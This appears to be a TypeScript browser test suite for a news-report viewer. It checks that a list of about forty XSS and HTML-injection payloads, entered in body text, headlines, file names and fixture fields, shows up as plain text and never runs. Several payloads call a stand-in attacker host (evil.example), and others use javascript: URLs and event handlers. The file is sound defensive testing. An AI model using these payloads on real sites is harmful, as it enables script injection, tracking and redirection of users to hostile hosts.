import { expect, opening, pick, showing, fixture, submit, test } from "./pages";

/** Each would run, ask or ask the network something in a page that took it for HTML. */
const PAYLOADS = [
  "<script>window.hit=1</script>",
  "<ScRiPt>window.hit=1</sCrIpT>",
  "</script><script>window.hit=1</script>",
  "<img src=x onerror=window.hit=1>",
  "<img src='http://evil.example/pixel.gif'>",
  "<svg onload=window.hit=1>",
  "<svg><script>window.hit=1</script></svg>",
  "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
  "<iframe src=javascript:parent.hit=1></iframe>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<body onload=window.hit=1>",
  "<details open ontoggle=window.hit=1>",
  "<video><source onerror=window.hit=1></video>",
  "<audio src=x onerror=window.hit=1>",
  "<input autofocus onfocus=window.hit=1>",
  "<a href=javascript:window.hit=1>click</a>",
  "<a href='data:text/html,<script>opener.hit=1</script>'>click</a>",
  "<math><maction actiontype=statusline xlink:href=javascript:window.hit=1>x",
  "<form action=http://evil.example><button>x</button></form>",
  "<base href=http://evil.example/>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<style>*{display:none}</style>",
  "<div style=background:url(http://evil.example/)>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<object data=http://evil.example/x.swf></object>",
  "<embed src=http://evil.example/x.swf>",
  "<template><script>window.hit=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
  "<!--><img src=x onerror=window.hit=1>-->",
  "<![CDATA[<script>window.hit=1</script>]]>",
  "\"><script>window.hit=1</script>",
  "'-window.hit=1-'",
  "{{constructor.constructor('window.hit=1')()}}",
  "${window.hit=1}",
  "javascript:window.hit=1",
  "&lt;script&gt;window.hit=1&lt;/script&gt;",
  "\u003cscript\u003ewindow.hit=1\u003c/script\u003e\u2028\u2029",
  "\u202Egnp.cod\u202C <b onmouseover=window.hit=1>x",
  "<x onclick=window.hit=1 tabindex=0 id=report>y",
  "=HYPERLINK(\"http://evil.example\",\"x\")",
  "<dialog open><form method=dialog>x</form></dialog>",
];

/** Elements that no report may bring into the page. */
const FOREIGN = "img, iframe, object, embed, video, audio, base, math, template, style, link[rel=stylesheet], meta[http-equiv]";

async function checkHarmless(page: Parameters<typeof submit>[0], before: number): Promise<void> {
  expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
  expect(await page.locator(FOREIGN).count()).toBe(before);
  expect(await page.locator("script:not([src]):not([type='application/json'])").count()).toBe(0);
}

test("hostile words in body, headline and outlet are words", async ({ page }) => {
  test.setTimeout(240_000);
  await opening(page);
  const before = await page.locator(FOREIGN).count();
  for (const payload of PAYLOADS) {
    await opening(page);
    const oneLine = payload.replace(/[\u2028\u2029]/g, "");
    await submit(page, `Police ${payload} arrested two men. ${payload} attacked a town.`, {
      title: oneLine,
      outlet: oneLine,
    });
    await expect(page.locator("h1")).toHaveText(oneLine);
    expect((await page.locator(".words").allTextContents()).join("")).toContain(oneLine);
    await checkHarmless(page, before);
  }
});

test("hostile names of files are names", async ({ page }) => {
  test.setTimeout(240_000);
  await opening(page);
  const before = await page.locator(FOREIGN).count();
  for (const payload of PAYLOADS) {
    // A file's name holds no slash.
    const name = `${payload.replace(/[/\\\u2028\u2029]/g, "")}.txt`;
    await pick(page, name, "Police arrested two men.");
    await expect(page.locator("h1")).toHaveText(name);
    await checkHarmless(page, before);
  }
});

test("hostile words in every field of a reading are words", async ({ page }) => {
  const reading = fixture("odesa-grain");
  const [script = "", , , image = ""] = PAYLOADS;
  for (const entity of reading.entities) entity.name = image;
  for (const claim of reading.claims) {
    claim.type = script;
    claim.mode = [image];
    claim.rule = script;
    if (claim.place) claim.place.name = image;
  }
  for (const place of reading.places) place.name = script;
  for (const quantity of reading.quantities) quantity.unit = image;
  reading.notes = [{ span: null, text: script }];
  reading.document.url = "javascript:window.hit=1";
  reading.engine.model = image;
  await page.route("**/api/explain", (route) => route.fulfill({ json: { sentence: script, patterns: [image], [script]: image } }));
  await showing(page, reading);
  const before = 0;
  for (const key of ["j", "e", "f"]) await page.keyboard.press(key);
  await page.waitForTimeout(200);
  await checkHarmless(page, before + (await page.locator("link[rel=stylesheet]").count()));
  expect(await page.locator("a[href^=javascript]").count()).toBe(0);
});

test("a link that came with a report goes to the web only, and tells it nothing", async ({ page }) => {
  const reading = fixture("odesa-grain");
  reading.document.url = "https://example.org/report";
  await showing(page, reading);
  const link = page.locator(".headline a");
  await expect(link).toHaveAttribute("rel", /noopener noreferrer/);
  await expect(link).toHaveAttribute("href", "https://example.org/report");
});
